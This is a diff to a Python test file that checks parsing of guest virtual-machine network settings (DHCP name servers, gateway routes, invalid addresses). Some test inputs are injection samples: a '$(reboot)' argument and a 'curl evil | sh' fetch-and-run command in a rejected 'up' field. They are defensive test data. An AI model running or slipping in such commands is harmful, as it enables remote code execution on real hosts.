@@ -9,7 +9,7 @@ from typing import Any
 import pytest
 
 from adyton.errors import MalformedManifest
-from adyton.image.guest_settings import MAX_BYTES, GuestSettings, Network, parse_settings
+from adyton.image.guest_settings import DHCP, MAX_BYTES, GuestSettings, Network, parse_settings
 
 DOCUMENT = {
     "format": "adyton-guest/1",
@@ -38,13 +38,29 @@ def test_document_round_trips() -> None:
     assert parse_settings(least.to_bytes()) == least
 
 
+def test_network_may_give_the_address() -> None:
+    """Name servers of the settings come before those of the network; an empty list is none at all."""
+    for servers, found in ((None, None), ([], ()), (["10.0.0.1"], (ipaddress.IPv4Address("10.0.0.1"),))):
+        network: dict[str, object] = {"dhcp": True} if servers is None else {"dhcp": True, "name_servers": servers}
+        settings = _parse({**DOCUMENT, "network": network})
+        assert settings.network == DHCP(found)
+        assert parse_settings(settings.to_bytes()) == settings
+
+
+def test_gateway_beyond_the_own_network_is_reached_by_the_interface() -> None:
+    """As on machines of Google's."""
+    network = _parse({**DOCUMENT, "network": {"address": "10.132.0.7/32", "gateway": "10.132.0.1"}}).network
+    assert isinstance(network, Network)
+    shown = [(str(route.destination), str(route.gateway)) for route in network.configuration().routes]
+    assert shown == [("10.132.0.1/32", "None"), ("0.0.0.0/0", "10.132.0.1")]
+
+
 def test_words_of_the_host_are_never_options_or_commands() -> None:
     """The manifest has a folder before it, and arguments stand behind --."""
     words = _parse(DOCUMENT).command()
     assert words[:3] == ["run", "--tee", "tpm"]
     assert words[-5:] == ["./app/app.manifest", "--", "--help", "a b", "$(reboot)"]
     assert _parse(DOCUMENT).hosts_file() == "127.0.0.1 localhost\n10.0.2.2 keys.example.org\n"
-    assert _parse(DOCUMENT).resolver_file() == "nameserver 10.0.2.3\n"
 
 
 @pytest.mark.parametrize(
@@ -75,6 +91,10 @@ def test_words_of_the_host_are_never_options_or_commands() -> None:
         ("network", {"address": "10.0.2.15"}),
         ("network", {"address": "10.0.2.15/0"}),
         ("network", {"address": "10.0.2.15/33"}),
+        ("network", {"address": "10.0.2.15/7"}),
+        ("network", {"dhcp": False}),
+        ("network", {"dhcp": True, "address": "10.0.2.15/24"}),
+        ("network", {}),
         ("network", {"address": "10.0.2.15/24", "gateway": "x"}),
         ("network", {"address": "10.0.2.15/24", "up": "curl evil | sh"}),
         ("network", {"address": "10.0.2.15/24", "name_servers": ["10.0.0.1"] * 4}),
